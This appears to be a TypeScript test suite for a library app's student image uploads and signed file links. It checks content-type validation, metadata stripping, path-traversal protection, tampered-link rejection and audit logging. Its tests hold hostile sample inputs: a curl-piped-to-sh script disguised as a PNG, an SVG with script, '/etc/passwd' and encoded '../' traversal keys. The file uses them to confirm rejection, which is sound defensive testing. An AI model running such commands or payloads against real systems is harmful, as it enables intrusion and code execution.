import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { messages } from '@app/shared';
import { createUrlSigner, FILE_URL_BASE_PATH, FILE_URL_TTL_SECONDS } from '../../lib/storage/signed-urls';
import { changePassword, registerLibrary, useTestApp } from '../../test/helpers';
import {
  createStudentViaApi,
  image,
  studentFields,
  studentForm,
  threeImages,
  updateStudentViaApi,
} from './students.fixtures';

const m = messages.students;
const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'sla-students-'));
const uploadsDir = path.join(dataDir, 'uploads');
const t = useTestApp({ DATA_DIR: dataDir });
let images: Record<string, Buffer>;

beforeAll(async () => {
  images = await threeImages();
});
afterAll(() => {
  fs.rmSync(dataDir, { recursive: true, force: true });
});

type Auth = Record<string, string>;

/** Every file stored for a library, relative to the uploads folder. */
function storedFiles(libraryId: string): string[] {
  const root = path.join(uploadsDir, libraryId);
  if (!fs.existsSync(root)) return [];
  return (fs.readdirSync(root, { recursive: true }) as string[])
    .filter((entry) => fs.statSync(path.join(root, entry)).isFile())
    .sort();
}

const createStudent = (auth: Auth, files: Record<string, Buffer> = images) => createStudentViaApi(t.app, auth, files);

const fetchFile = (url: string) => t.app.inject({ url });

describe('image uploads', () => {
  it('stores re-encoded WebP images and a 96 px thumbnail under the library prefix', async () => {
    const { auth, session } = await registerLibrary(t.app);
    const { id, student } = await createStudent(auth);
    // The random part of each name decides the listing order, so match by kind.
    const files = storedFiles(session.library.id);
    expect(files).toHaveLength(4);
    expect(files.every((file) => file.startsWith(`students/${id}/`) && file.endsWith('.webp'))).toBe(true);
    const names = files.map((file) => file.split('/').pop() ?? '');
    const count = (test: (name: string) => boolean) => names.filter(test).length;
    expect(count((name) => name.startsWith('back-'))).toBe(1);
    expect(count((name) => name.startsWith('front-'))).toBe(1);
    expect(count((name) => name.startsWith('profile-thumb-'))).toBe(1);
    expect(count((name) => name.startsWith('profile-') && !name.startsWith('profile-thumb-'))).toBe(1);
    const thumb = await fetchFile(student.profile_thumb!);
    expect(await sharp(thumb.rawPayload).metadata()).toMatchObject({ format: 'webp', width: 96, height: 96 });
  });

  it('applies the EXIF orientation, then strips every metadata block', async () => {
    const { auth } = await registerLibrary(t.app);
    // 80×40 pixels, tagged "rotate 90°", with a camera make and GPS-bearing EXIF.
    const photo = await sharp({ create: { width: 80, height: 40, channels: 3, background: '#3366cc' } })
      .jpeg()
      .withExif({ IFD0: { Make: 'PhoneCam' }, IFD3: { GPSLatitudeRef: 'N' } })
      .withMetadata({ orientation: 6 })
      .toBuffer();
    expect(photo.includes(Buffer.from('PhoneCam'))).toBe(true);
    expect((await sharp(photo).metadata()).orientation).toBe(6);
    const { student } = await createStudent(auth, { ...images, profile: photo });
    const stored = await fetchFile(student.profile!);
    const metadata = await sharp(stored.rawPayload).metadata();
    expect(metadata).toMatchObject({ format: 'webp', width: 40, height: 80 });
    expect(metadata.exif).toBeUndefined();
    expect(metadata.icc).toBeUndefined();
    expect(metadata.xmp).toBeUndefined();
    expect(stored.rawPayload.includes(Buffer.from('PhoneCam'))).toBe(false);
  });

  it('shrinks large images to 1600 px on the longest side', async () => {
    const { auth } = await registerLibrary(t.app);
    const { student } = await createStudent(auth, { ...images, front_image: await image('png', 2400, 1200) });
    const stored = await fetchFile(student.front_image!);
    expect(await sharp(stored.rawPayload).metadata()).toMatchObject({ width: 1600, height: 800 });
  });

  const post = (auth: Auth, files: Parameters<typeof studentForm>[1]) =>
    t.app.inject({ method: 'POST', url: '/api/user', headers: auth, payload: studentForm(studentFields(), files) });

  it('refuses a type other than JPEG, PNG or WebP by its content, naming the field (415)', async () => {
    const { auth, session } = await registerLibrary(t.app);
    const gif = await post(auth, {
      ...images,
      front_image: { bytes: await image('gif'), name: 'card.gif', type: 'image/gif' },
    });
    expect(gif.statusCode).toBe(415);
    expect(gif.json()).toMatchObject({
      code: 415,
      message: m.imageType,
      errors: [{ field: 'front_image', message: m.imageType }],
    });

    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n');
    const renamed = await post(auth, { ...images, profile: { bytes: script, name: 'photo.png', type: 'image/png' } });
    expect(renamed.statusCode).toBe(415);
    expect(renamed.json().errors).toEqual([
      { field: 'profile', message: m.imageType, messageCode: 'students.imageType' },
    ]);

    const html = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    const svg = await post(auth, { ...images, back_image: { bytes: html, name: 'x.webp', type: 'image/webp' } });
    expect(svg.statusCode).toBe(415);
    expect(storedFiles(session.library.id)).toEqual([]);
  });

  it('refuses a corrupt image that only starts like one (400)', async () => {
    const { auth } = await registerLibrary(t.app);
    const png = await image('png', 300, 300);
    const truncated = png.subarray(0, Math.floor(png.length / 2));
    const response = await post(auth, { ...images, back_image: truncated });
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ message: m.imageUnreadable, errors: [{ field: 'back_image' }] });
  });

  it('refuses an image over 5 MB (413), and more than three files', async () => {
    const { auth, session } = await registerLibrary(t.app);
    const big = Buffer.concat([images.profile!, Buffer.alloc(5 * 1024 * 1024)]);
    const response = await post(auth, { ...images, front_image: big });
    expect(response.statusCode).toBe(413);
    expect(response.json()).toMatchObject({ code: 413, message: m.imageTooLarge, errors: [{ field: 'front_image' }] });

    const form = studentForm(studentFields(), images);
    form.append('back_image', new Blob([new Uint8Array(images.profile!)], { type: 'image/png' }), 'again.png');
    const four = await t.app.inject({ method: 'POST', url: '/api/user', headers: auth, payload: form });
    expect(four.statusCode).toBe(413);
    expect(four.json()).toMatchObject({ message: m.tooManyFiles });

    const unexpected = await post(auth, { profile: images.profile!, passport: images.profile! });
    expect(unexpected.statusCode).toBe(400);
    expect(unexpected.json()).toMatchObject({ message: m.unexpectedFile, errors: [{ field: 'passport' }] });
    expect(storedFiles(session.library.id)).toEqual([]);
  });

  it('stores nothing when a later image of the form is refused', async () => {
    const { auth, session } = await registerLibrary(t.app);
    const response = await post(auth, { ...images, back_image: Buffer.from('not an image at all') });
    expect(response.statusCode).toBe(415);
    expect(storedFiles(session.library.id)).toEqual([]);
  });
});

describe('replacing images', () => {
  it('deletes the old file (and the old thumbnail) once the new one is saved', async () => {
    const { auth, session } = await registerLibrary(t.app);
    const { id, student } = await createStudent(auth);
    const after = await updateStudentViaApi(
      t.app,
      auth,
      id,
      { ...studentFields(), first_name: 'Asha' },
      { profile: await image('jpeg', 50, 50), back_image: await image('png', 70, 50) },
    );

    for (const kind of ['profile', 'profile_thumb', 'back_image']) {
      expect(after[kind]).not.toBe(student[kind]);
      expect((await fetchFile(student[kind]!)).statusCode).toBe(404);
      expect((await fetchFile(after[kind])).statusCode).toBe(200);
    }
    expect(after.front_image.split('?')[0]).toBe(student.front_image!.split('?')[0]);
    expect(storedFiles(session.library.id)).toHaveLength(4);
  });

  it('keeps the old images when the update is refused', async () => {
    const { auth, session } = await registerLibrary(t.app);
    const one = await createStudent(auth);
    const two = await createStudent(auth);
    const before = storedFiles(session.library.id);
    const response = await t.app.inject({
      method: 'PUT',
      url: `/api/user/${two.id}`,
      headers: auth,
      payload: studentForm(studentFields({ mobile: one.student.mobile! }), { profile: await image('png') }),
    });
    expect(response.statusCode).toBe(409);
    expect(storedFiles(session.library.id)).toEqual(before);
  });
});

describe('GET /api/files/* (signed URLs)', () => {
  const signerFor = () =>
    createUrlSigner(t.app.appSecret, { ttlSeconds: FILE_URL_TTL_SECONDS, basePath: FILE_URL_BASE_PATH });
  const keyOf = (url: string) => decodeURIComponent(url.split('?')[0]!.slice(`${FILE_URL_BASE_PATH}/`.length));
  /** The live session of an admin, as links are signed for it. */
  const viewerOf = async (adminId: string) => {
    const session = await t.app.liveSession(
      (await t.pool.query(`select id from sessions where admin_id = $1 and revoked_at is null`, [adminId])).rows[0].id,
    );
    return session!;
  };

  it('serves the image privately, with its content type', async () => {
    const { auth } = await registerLibrary(t.app);
    const { student } = await createStudent(auth);
    const response = await fetchFile(student.profile!);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('image/webp');
    expect(response.headers['cache-control']).toMatch(/^private, max-age=\d+$/);
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    expect(Number(response.headers['content-length'])).toBe(response.rawPayload.length);
  });

  it('lists only the profile links: the identity images need the edit call', async () => {
    const { auth } = await registerLibrary(t.app);
    await createStudent(auth);
    const list = await t.app.inject({ url: '/api/user', headers: auth });
    const row = list.json().data.students[0];
    expect(row.profile).toMatch(/^\/api\/files\/.+\/profile-/);
    expect(row.profile_thumb).toMatch(/^\/api\/files\/.+\/profile-thumb-/);
    expect(row).not.toHaveProperty('front_image');
    expect(row).not.toHaveProperty('back_image');
  });

  it('refuses unsigned, tampered and expired links with 403', async () => {
    const { auth, session } = await registerLibrary(t.app);
    const other = await registerLibrary(t.app);
    const { student } = await createStudent(auth);
    const url = student.front_image!;
    const [pathPart, query] = url.split('?') as [string, string];
    const params = new URLSearchParams(query);

    const tamperedSignature = new URLSearchParams(params);
    tamperedSignature.set('sig', `${params.get('sig')!.slice(0, -2)}AA`);
    const laterExpiry = new URLSearchParams(params);
    laterExpiry.set('exp', String(Number(params.get('exp')) + 3600));
    const otherSession = new URLSearchParams(params);
    otherSession.set('ses', (await viewerOf(other.session.id)).sessionId);
    const otherFile = student.back_image!.split('?')[0];
    const expired = signerFor().sign(
      keyOf(url),
      await viewerOf(session.id),
      Date.now() - 3 * FILE_URL_TTL_SECONDS * 1000,
    );

    for (const bad of [
      pathPart,
      `${pathPart}?exp=${params.get('exp')}`,
      `${pathPart}?${tamperedSignature}`,
      `${pathPart}?${laterExpiry}`,
      `${pathPart}?${otherSession}`,
      `${otherFile}?${params}`,
      expired,
    ]) {
      const response = await fetchFile(bad);
      expect(response.statusCode, bad).toBe(403);
      expect(response.json()).toMatchObject({ status: false, code: 403, message: m.fileLinkInvalid });
    }
  });

  it("answers 404 for a link signed for another library's session", async () => {
    const owner = await registerLibrary(t.app);
    const stranger = await registerLibrary(t.app);
    const { student } = await createStudent(owner.auth);
    const forged = signerFor().sign(keyOf(student.front_image!), await viewerOf(stranger.session.id));
    const response = await fetchFile(forged);
    expect(response.statusCode).toBe(404);
    expect(response.json()).toMatchObject({ message: m.fileNotFound });
  });

  it('never leaves the uploads folder', async () => {
    const { session } = await registerLibrary(t.app);
    const signer = signerFor();
    const viewer = await viewerOf(session.id);
    fs.writeFileSync(path.join(dataDir, 'secret.webp'), 'secret');
    for (const key of [
      '../secret.webp',
      `${session.library.id}/../../secret.webp`,
      `${session.library.id}/students/%2e%2e/%2e%2e/%2e%2e/secret.webp`,
      '/etc/passwd',
    ]) {
      const response = await fetchFile(signer.sign(key, viewer));
      expect([403, 404], key).toContain(response.statusCode);
      expect(response.body).not.toContain('secret');
    }
    const raw = await t.app.inject({ url: '/api/files/..%2f..%2fsecret.webp' });
    expect([403, 404]).toContain(raw.statusCode);
  });

  it('writes each view of an identity image to the audit log, not the profile photo', async () => {
    const { auth, session } = await registerLibrary(t.app);
    const { id, student } = await createStudent(auth);
    await t.pool.query(`delete from audit_log where library_id = $1`, [session.library.id]);
    expect((await fetchFile(student.front_image!)).statusCode).toBe(200);
    expect((await fetchFile(student.back_image!)).statusCode).toBe(200);
    expect((await fetchFile(student.profile!)).statusCode).toBe(200);
    const { rows } = await t.pool.query(
      `select admin_id, action, entity_type, entity_id, detail from audit_log where library_id = $1 order by created_at, detail desc`,
      [session.library.id],
    );
    expect(rows).toEqual([
      {
        admin_id: session.id,
        action: 'student.identity_image.view',
        entity_type: 'student',
        entity_id: id,
        detail: 'front',
      },
      {
        admin_id: session.id,
        action: 'student.identity_image.view',
        entity_type: 'student',
        entity_id: id,
        detail: 'back',
      },
    ]);
  });
});

describe('signed links die with their session (issue 12)', () => {
  const detailOf = async (auth: Auth, id: string) =>
    (await t.app.inject({ url: `/api/user/${id}`, headers: auth })).json().data as Record<string, string>;
  const signIn = async (email: string, password: string) => {
    const response = await t.app.inject({
      method: 'POST',
      url: '/api/auth/login',
      payload: { identifier: email, password },
    });
    return { authorization: `Bearer ${response.json().data.token}` };
  };
  const expectDead = async (url: string) => {
    const response = await fetchFile(url);
    expect(response.statusCode, url).toBe(403);
    expect(response.json()).toMatchObject({ status: false, code: 403, message: m.fileLinkInvalid });
  };

  it('works while the session lives, and answers 403 once it signs out', async () => {
    const { auth } = await registerLibrary(t.app);
    const { student } = await createStudent(auth);
    for (const kind of ['profile', 'profile_thumb', 'front_image', 'back_image']) {
      expect((await fetchFile(student[kind]!)).statusCode, kind).toBe(200);
    }
    await t.app.inject({ method: 'POST', url: '/api/auth/logout', headers: auth });
    for (const kind of ['profile', 'profile_thumb', 'front_image', 'back_image']) await expectDead(student[kind]!);
  });

  it('answers 403 for every link made before a password change, in every session', async () => {
    const { auth, session, body } = await registerLibrary(t.app);
    const { id, student: mine } = await createStudent(auth);
    const otherAuth = await signIn(session.email, body.password);
    const theirs = await detailOf(otherAuth, id);
    expect((await fetchFile(theirs.front_image!)).statusCode).toBe(200);

    const changed = await changePassword(t.app, auth, {
      email: session.email,
      currentPassword: body.password,
      password: 'a-new-password',
    });
    expect(changed.statusCode, changed.body).toBe(200);
    await expectDead(theirs.front_image!);
    await expectDead(mine.front_image!);
    await expectDead(mine.profile!);
    // The session that changed it goes on, with fresh links.
    const fresh = await detailOf(auth, id);
    expect((await fetchFile(fresh.front_image!)).statusCode).toBe(200);
  });

  it('answers 403 once the session has gone idle', async () => {
    const { auth, session } = await registerLibrary(t.app);
    const { student } = await createStudent(auth);
    await t.pool.query(`update sessions set last_seen_at = now() - interval '13 hours' where admin_id = $1`, [
      session.id,
    ]);
    await expectDead(student.front_image!);
  });

  it("does not serve a link from another library's session", async () => {
    const owner = await registerLibrary(t.app);
    const stranger = await registerLibrary(t.app);
    const { student } = await createStudent(owner.auth);
    const strangers = await t.app.inject({ url: '/api/user', headers: stranger.auth });
    expect(strangers.json().data.students).toEqual([]);
    // The stranger's own link parameters on the owner's file.
    const { student: theirs } = await createStudent(stranger.auth);
    const query = theirs.front_image!.split('?')[1];
    const borrowed = await fetchFile(`${student.front_image!.split('?')[0]}?${query}`);
    expect(borrowed.statusCode).toBe(403);
  });
});
